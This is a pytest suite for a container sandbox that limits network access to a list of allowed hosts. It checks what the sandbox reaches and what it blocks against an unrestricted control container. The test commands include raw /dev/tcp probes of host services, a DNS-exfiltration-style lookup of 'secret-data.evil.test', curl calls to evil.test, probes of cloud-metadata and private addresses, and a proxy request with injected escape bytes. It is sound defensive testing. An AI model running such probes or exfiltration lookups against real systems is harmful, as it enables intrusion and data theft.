"""An open box with a list of allowed hosts, on a real Docker: what it reaches, and all that it does not.

Each thing that is not reached stands beside a control that reaches it without the list.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import re
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.real.engines.dockerd import Dockerd
from tests.workplaces.contract import Heard, stopped
from tests.workplaces.looking import number, processes, until
from tests.workplaces.relay_hands import PUBLIC, Certificate, Internet, certificate, tls_server
from workplaces.container import hosts_doors
from workplaces.container.hosts import PORT
from workplaces.container.hosts_doors import Doors
from workplaces.container.place import Container
from workplaces.place import PlaceUnavailable, RunRequest, RunResult

HOSTS = "allowed.test *.below.test inward.test"
Run = Callable[..., Coroutine[Any, Any, RunResult]]


@pytest.fixture
def work(tmp_path: Path) -> Path:
    made = tmp_path / "work"
    made.mkdir()
    return made


@pytest.fixture
def paper(work: Path) -> Certificate:
    return certificate(work, "allowed.test", "*.below.test")


@pytest.fixture
async def internet(paper: Certificate) -> AsyncIterator[Internet]:
    """One HTTPS server, for every name: it says what it was asked for, and takes what it is given."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
            length = re.search(r"(?im)^content-length: (\d+)", head)
            left = int(length[1]) if length else 0
            while left and (data := await reader.read(min(left, 1 << 16))):
                left -= len(data)
            big = re.match(r"GET /big/(\d+)", head)
            body = bytes(int(big[1])) if big else head.split("\r\n")[0].encode() + b" reached"
            writer.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            await writer.drain()
        writer.close()

    async with tls_server(paper, handle) as port:
        yield Internet({"allowed.test": [PUBLIC], "a.below.test": [PUBLIC], "inward.test": ["127.0.0.1"]}, port)


@pytest.fixture
async def place(docker_host: Dockerd, tmp_path: Path, internet: Internet) -> AsyncIterator[Container]:
    """With the list."""
    made = Container(
        tmp_path / "conch",
        image=lambda: docker_host.image,
        hosts=lambda: HOSTS,
        doors=lambda on_left: Doors(on_left, resolve=internet.resolve, dial=internet.dial),
    )
    yield made
    await made.close()
    assert docker_host.boxes(conch_work="1") == []


@pytest.fixture
def run(place: Container, work: Path) -> Run:
    async def go(command: str, **how: Any) -> RunResult:
        return await place.run(RunRequest(**{"command": command, "folder": work, "open": True, "timeout": 60.0, **how}))

    return go


@pytest.fixture
async def without(docker_host: Dockerd, tmp_path: Path, work: Path) -> AsyncIterator[Run]:
    """The control: the same, without the list."""
    made = Container(tmp_path / "conch", image=lambda: docker_host.image)

    async def go(command: str) -> RunResult:
        return await made.run(RunRequest(command=command, folder=work, open=True, timeout=60.0))

    yield go
    await made.close()


class Service:
    """A program of this computer that listens everywhere, and counts who came."""

    def __init__(self) -> None:
        self.came = 0
        self._tcp = socket.create_server(("0.0.0.0", 0))
        self.port = int(self._tcp.getsockname()[1])
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("0.0.0.0", self.port))
        for work in (self._streams, self._packets):
            threading.Thread(target=work, daemon=True).start()

    def _streams(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                made, _ = self._tcp.accept()
                self.came += 1
                made.sendall(b"here\n")
                made.close()

    def _packets(self) -> None:
        with contextlib.suppress(OSError):
            while (sender := self._udp.recvfrom(100)[1]) is not None:
                self.came += 1
                self._udp.sendto(b"here\n", sender)

    def close(self) -> None:
        for one in (self._tcp, self._udp):
            with contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


@pytest.fixture
def service() -> Iterator[Service]:
    made = Service()
    yield made
    made.close()


def tcp(address: str, port: int) -> str:
    return f"timeout 3 bash -c 'exec 3<>/dev/tcp/{address}/{port} && head -1 <&3' 2>&1"


def udp(address: str, port: int) -> str:
    code = (
        "import socket; s = socket.socket(2, 2); s.settimeout(2); "
        f's.sendto(b"x", ("{address}", {port})); print(s.recv(9).decode())'
    )
    return f"python3 -c '{code}' 2>&1"


# -- what goes through


async def test_a_listed_host_is_reached_with_its_own_certificate(run: Run, internet: Internet) -> None:
    result = await run(
        "curl -sS --cacert cert.pem https://allowed.test/x; curl -sS --cacert cert.pem https://a.below.test/"
    )
    assert result.output.text == "GET /x HTTP/1.1 reachedGET / HTTP/1.1 reached", result.output.text
    assert internet.asked == ["allowed.test", "a.below.test"]
    assert internet.dialled == [(PUBLIC, 443)] * 2
    assert result.tried == ()
    assert result.note == ""


async def test_python_node_and_git_find_the_proxy_by_themselves(run: Run, internet: Internet) -> None:
    result = await run(
        """
        python3 -c "
import ssl, urllib.request
trusted = ssl.create_default_context(cafile='cert.pem')
print(urllib.request.urlopen('https://allowed.test/py', context=trusted).read().decode())"
        NODE_EXTRA_CA_CERTS=cert.pem node -e "fetch('https://allowed.test/node').then(a => a.text()).then(console.log)"
        GIT_SSL_CAINFO=cert.pem git ls-remote https://allowed.test/r.git; echo "git $?"
        """
    )
    assert "GET /py HTTP/1.1 reached" in result.output.out
    assert "GET /node HTTP/1.1 reached" in result.output.out
    assert "git 0" in result.output.out
    assert set(internet.asked) == {"allowed.test"}
    assert len(internet.asked) >= 3
    assert result.tried == ()


async def test_much_comes_through_whole_and_both_ways(run: Run) -> None:
    result = await run(
        "head -c 30000000 /dev/zero >/tmp/up; curl -sS --cacert cert.pem -T /tmp/up https://allowed.test/up; echo; "
        "for n in 1 2 3; do curl -sS --cacert cert.pem https://allowed.test/big/30000000 | wc -c & done; wait"
    )
    assert sorted(result.output.out.split("\n")) == ["", "30000000", "30000000", "30000000", "PUT /up HTTP/1.1 reached"]


async def test_the_proof_and_the_model_are_told(run: Run, place: Container, work: Path) -> None:
    result = await run("true")
    assert result.proof.network
    assert not result.proof.sealed
    assert result.proof.details["allowed hosts"] == "allowed.test, *.below.test, inward.test"
    assert re.fullmatch(r"container:[0-9a-f]{64}", result.proof.details["network"])
    assert "allowed.test, *.below.test" in place.about(work)
    assert (await place.standing()).details["allowed hosts"] == HOSTS


# -- what does not


async def test_the_box_has_a_loopback_and_nothing_else(run: Run, without: Run) -> None:
    look = (
        "cut -d: -f1 /proc/net/dev | tail -n +3; tail -n +2 /proc/net/route; cat /proc/net/if_inet6; cat /proc/net/arp"
    )
    seen = (await run(look)).output.out.split()
    assert set(seen) <= {
        "lo",
        "IP",
        "address",
        "HW",
        "type",
        "Flags",
        "Mask",
        "Device",
        "0" * 31 + "1",
        "01",
        "80",
        "10",
    }
    assert {"eth0", "tap0"} & set((await without(look)).output.out.split())


@pytest.mark.parametrize("way", [tcp, udp], ids=["tcp", "udp"])
async def test_this_computers_own_services_are_not_reached(
    run: Run, without: Run, docker_host: Dockerd, service: Service, way: Callable[[str, int], str]
) -> None:
    assert (await without(way(docker_host.gateway, service.port))).output.out == "here\n" + ("\n" if way is udp else "")
    assert service.came == 1
    addresses = [docker_host.gateway, *_own_addresses(), "127.0.0.1", "0.0.0.0"]
    result = await run("; ".join(way(address, service.port) for address in addresses))
    assert "here" not in result.output.text
    assert service.came == 1


async def test_another_container_is_not_reached(run: Run, without: Run, docker_host: Dockerd) -> None:
    with docker_host.client() as client:
        other = client.containers.run(docker_host.image, ["python3", "-m", "http.server", "8000"], detach=True)
        try:
            other.reload()
            address = other.attrs["NetworkSettings"]["IPAddress"]
            again = "--retry 20 --retry-connrefused --retry-delay 0"
            ask = f"curl -sS --noproxy '*' -m 5 {again} -o /dev/null -w %{{http_code}} http://{address}:8000/"
            assert (await without(ask)).output.out == "200"
            assert (await run(ask.replace(again, ""))).output.out == "000"
            through = await run(f"curl -s -m 5 http://{address}:8000/; curl -sk -m 5 https://{address}:443/")
            assert through.tried == (f"{address}:8000", f"{address}:443")
        finally:
            other.remove(force=True)


async def test_no_name_server_is_asked(run: Run, without: Run, docker_host: Dockerd, service: Service) -> None:
    """What is in a name that is looked up would leave with the question."""
    assert (await without(udp(docker_host.gateway, service.port))).code == 0
    servers = (await without("grep ^nameserver /etc/resolv.conf")).output.out
    assert servers.split() != ["nameserver", "127.0.0.1"]
    result = await run(
        "grep -v ^# /etc/resolv.conf; getent hosts secret-data.evil.test; getent ahosts allowed.test; echo $?"
    )
    lines = result.output.out.split("\n")
    assert lines[0] == "nameserver 127.0.0.1"
    assert lines[-2:] == ["2", ""]
    assert result.tried == ("secret-data.evil.test", "allowed.test")
    for server in ("127.0.0.11", "8.8.8.8", docker_host.gateway):
        assert (await run(udp(server, 53))).code != 0


async def test_a_sealed_command_has_no_door(run: Run) -> None:
    result = await run(f"env | grep -ci proxy; {tcp('127.0.0.1', PORT)}", open=False)
    assert result.output.out.startswith("0\n")
    assert "refused" in result.output.text
    assert result.proof.details["network"] == "none"
    assert not result.proof.network


async def test_two_boxes_at_once_do_not_meet(run: Run) -> None:
    ask = "curl -s --noproxy '*' -m 3 -o /dev/null -w %{http_code} http://127.0.0.1:8000/"
    serve = f"python3 -m http.server 8000 >/dev/null 2>&1 & until [ $({ask}) = 200 ]; do sleep 0.1; done; echo up"
    heard = Heard()
    async with asyncio.TaskGroup() as group:
        first = group.create_task(run(f"{serve}; until [ -e done ]; do sleep 0.1; done; {ask}", output=heard.keeper))
        await heard.wait_for("up")
        second = await run(f"{ask}; touch done")
    assert second.output.out == "000"
    assert first.result().output.out == "up\n200"
    assert first.result().proof.details["network"] != second.proof.details["network"]


async def test_an_allowed_name_that_leads_to_this_computer_is_refused(
    run: Run, internet: Internet, service: Service, docker_host: Dockerd
) -> None:
    with socket.create_connection(("127.0.0.1", service.port)) as made:  # the control: it is there
        assert made.recv(5) == b"here\n"
    result = await run("curl -s https://inward.test/")
    assert (internet.asked, internet.dialled) == (["inward.test"], [])
    assert result.tried == ("inward.test:443",)
    assert "private network" in result.note
    for address in (docker_host.gateway, "169.254.169.254", "::1", "fe80::1%lo", "::ffff:127.0.0.1", "0.0.0.0"):
        internet.names["allowed.test"] = [address]
        assert (await run("curl -s https://allowed.test/")).tried == ("allowed.test:443",)
    assert internet.dialled == []
    assert service.came == 1


async def test_what_was_refused_is_told_once_in_order_and_to_the_one_who_tried(run: Run, internet: Internet) -> None:
    result = await run(
        "curl -s https://evil.test/; curl -s http://allowed.test/; curl -s https://evil.test/again; "
        "curl -s https://allowed.test:8443/; printf 'CONNECT a\\033[31m\\n\\351.test:443 HTTP/1.1\\r\\n\\r\\n' | "
        f"timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{PORT}; cat >&3; cat <&3'"
    )
    assert result.tried == ("evil.test:443", "allowed.test:80", "allowed.test:8443", "a?[31m??.test:443")
    assert "allowed hosts are reached by https alone" in result.output.out
    assert result.note.startswith(f"It tried to reach {', '.join(result.tried)} and was refused")
    assert internet.asked == []
    many = await run("for n in $(seq 60); do curl -s https://n$n.evil.test/; done")
    assert len(many.tried) == 21
    assert many.tried[-1] == "and 40 more"
    assert (await run("true")).tried == ()


# -- doors


async def test_one_door_serves_one_command_after_another_and_keeps_nothing(
    run: Run, docker_host: Dockerd, place: Container
) -> None:
    ask = "curl -s --noproxy '*' -m 3 -o /dev/null -w %{http_code} http://127.0.0.1:8000/"
    first = await run(f"python3 -m http.server 8000 >/dev/null 2>&1 & until [ $({ask}) = 200 ]; do sleep 0.1; done")
    assert first.code == 0
    second = await run(ask)
    assert second.output.out == "000"
    assert second.proof.details["network"] == first.proof.details["network"]
    assert second.proof.target != first.proof.target
    assert len(docker_host.boxes(conch_work="1", conch_door="1")) == 1
    await place.close()
    assert docker_host.boxes() == []


async def test_a_door_is_sealed_and_holds_nothing_of_this_computer(run: Run, docker_host: Dockerd) -> None:
    await run("true")
    (door,) = docker_host.boxes(conch_door="1")
    with docker_host.client() as client:
        seen = client.api.inspect_container(door)
    host = seen["HostConfig"]
    assert host["NetworkMode"] == "none"
    assert list(seen["NetworkSettings"]["Networks"]) == ["none"]
    assert host["CapDrop"] == ["ALL"]
    assert host["SecurityOpt"] == ["no-new-privileges"]
    assert host["ReadonlyRootfs"]
    assert host["AutoRemove"]
    assert seen["Mounts"] == []
    assert not [entry for entry in seen["Config"]["Env"] if not entry.startswith(("PATH=", "LANG=", "NODE_VERSION="))]


async def test_a_door_that_died_is_replaced_and_a_command_that_had_it_reaches_nothing(
    run: Run, docker_host: Dockerd, work: Path
) -> None:
    ask = "curl -s -m 3 -o /dev/null -w '%{http_code}\\n' --cacert cert.pem https://allowed.test/"
    heard = Heard()
    async with asyncio.TaskGroup() as group:
        running = group.create_task(
            run(
                f"{ask}; until [ -e dead ]; do sleep 0.1; done; {ask}; {tcp(docker_host.gateway, 22)}",
                output=heard.keeper,
            )
        )
        await heard.wait_for("200")
        (door,) = docker_host.boxes(conch_door="1")
        with docker_host.client() as client:
            pid = client.api.inspect_container(door)["State"]["Pid"]
        os.kill(pid, signal.SIGKILL)  # Podman's own kill answers after twenty seconds: the box still shares its network
        (work / "dead").touch()
    assert running.result().output.out.split("\n")[:2] == ["200", "000"]
    assert (await run(ask)).output.out == "200\n"


async def test_an_engine_that_was_restarted_is_no_trouble(run: Run, docker_host: Dockerd) -> None:
    ask = "curl -s -m 3 -o /dev/null -w '%{http_code}\\n' --cacert cert.pem https://allowed.test/"
    assert (await run(ask)).output.out == "200\n"
    docker_host.stop()
    docker_host.start()  # not in a thread: an engine ends with the thread that started it
    assert (await run(ask)).output.out == "200\n"


async def test_stop_ends_what_goes_through_and_says_what_was_tried(
    place: Container, work: Path, internet: Internet, docker_host: Dockerd
) -> None:
    heard, mark = Heard(), number()
    slow = f"curl -s --cacert cert.pem --limit-rate 1k https://allowed.test/big/9000000 -o {mark}"
    hang = f"curl -s https://evil.test/; echo tried; {slow}"
    async with asyncio.TaskGroup() as group:
        running = group.create_task(
            stopped(place, RunRequest(command=hang, folder=work, open=True, timeout=60, output=heard.keeper))
        )
        await heard.wait_for("tried")
        await until(lambda: internet.dialled, what="the transfer")
        running.cancel()
    stop = running.result()
    assert stop.sure
    assert stop.tried == ("evil.test:443",)
    assert processes(mark) == []


async def test_stop_while_the_door_is_made_leaves_nothing(place: Container, work: Path, docker_host: Dockerd) -> None:
    async def one(pause: float) -> None:
        running = asyncio.get_running_loop().create_task(
            stopped(place, RunRequest(command="sleep 100", folder=work, open=True))
        )
        await asyncio.sleep(pause)
        running.cancel()
        assert (await running).sure

    await asyncio.gather(*(one(pause) for pause in (0.0, 0.05, 0.1, 0.2, 0.3, 0.5)))
    await place.close()
    assert docker_host.boxes() == []


async def test_at_most_a_few_doors_wait_and_not_for_ever(
    run: Run, docker_host: Dockerd, monkeypatch: pytest.MonkeyPatch
) -> None:
    await asyncio.gather(*(run("sleep 1") for _ in range(hosts_doors.MOST_WAITING + 2)))
    await until(lambda: len(docker_host.boxes(conch_door="1")) == hosts_doors.MOST_WAITING)
    monkeypatch.setattr(hosts_doors, "KEEP", 0.2)
    await run("true")
    await until(lambda: docker_host.boxes(conch_door="1") == [], 20)


# -- when it cannot be


@pytest.mark.parametrize("hosts", ["https://allowed.test", "*.test/", "allowed.test 10.0.0.1"])
async def test_a_list_that_cannot_be_used_means_that_nothing_runs(
    docker_host: Dockerd, tmp_path: Path, work: Path, hosts: str
) -> None:
    made = Container(tmp_path / "conch", image=lambda: docker_host.image, hosts=lambda: hosts)
    with pytest.raises(PlaceUnavailable) as refused:
        await made.run(RunRequest(command="touch ran", folder=work, open=True))
    assert "is not a host's name" in refused.value.words
    assert refused.value.next_step is not None
    assert refused.value.next_step.action == "settings:container.hosts"
    assert not (work / "ran").exists()
    assert (await made.run(RunRequest(command="touch sealed", folder=work))).code == 0
    await made.close()


async def test_an_image_without_python_says_so_and_nothing_runs(
    docker_host: Dockerd, tmp_path: Path, work: Path
) -> None:
    with docker_host.client() as client:
        bare = client.containers.run(
            docker_host.image, ["sh", "-c", "rm -f /usr/bin/python3*"], detach=True, entrypoint=""
        )
        bare.wait()
        bare.commit("conch-no-python", "1")
        bare.remove(force=True)
    image = "docker.io/library/conch-no-python:1"
    made = Container(tmp_path / "conch", image=lambda: image, hosts=lambda: HOSTS)
    with pytest.raises(PlaceUnavailable) as refused:
        await made.run(RunRequest(command="touch ran", folder=work, open=True))
    assert (
        refused.value.words
        == f"The image {image} has no Python 3, which keeping a container to the allowed hosts needs."
    )
    assert not (work / "ran").exists()
    await made.close()
    assert docker_host.boxes() == []


RUNNER = """
import asyncio, sys
from pathlib import Path
from workplaces.container.place import Container
from workplaces.output import OutputKeeper
from workplaces.place import RunRequest

home, image, folder, command = sys.argv[1:]
place = Container(Path(home), image=lambda: image, hosts=lambda: "allowed.test")
say = lambda stream, text: print(text, end="", flush=True)
asyncio.run(place.run(RunRequest(command=command, folder=Path(folder), open=True, output=OutputKeeper(on_text=say))))
"""


async def test_a_conch_that_is_killed_leaves_no_door_and_no_open_network(
    work: Path, docker_host: Dockerd, tmp_path: Path
) -> None:
    home, mark = tmp_path / "conch", number()
    with docker_host.client() as client:
        other = client.containers.run(docker_host.image, ["sleep", "1000"], detach=True, labels={"conch.door": "1"}).id
    line = [sys.executable, "-c", RUNNER, str(home), docker_host.image, str(work), f"echo on; sleep {mark}"]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    with subprocess.Popen(line, env=env, stdout=subprocess.PIPE) as conch:
        assert conch.stdout is not None
        assert await asyncio.to_thread(conch.stdout.readline) == b"on\n"
        doors = set(docker_host.boxes(conch_door="1")) - {other}
        assert len(doors) == 1
        conch.send_signal(signal.SIGKILL)
    await until(lambda: not doors & set(docker_host.boxes()), 20, "the door goes by itself")
    mine = Container(home, image=lambda: docker_host.image)
    assert await mine.sweep() == 1, "the box of the command"
    assert docker_host.boxes() == [other]
    await mine.close()


def _own_addresses() -> list[str]:
    found = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False).stdout.split()
    return [address for address in found if ":" not in address][:4]
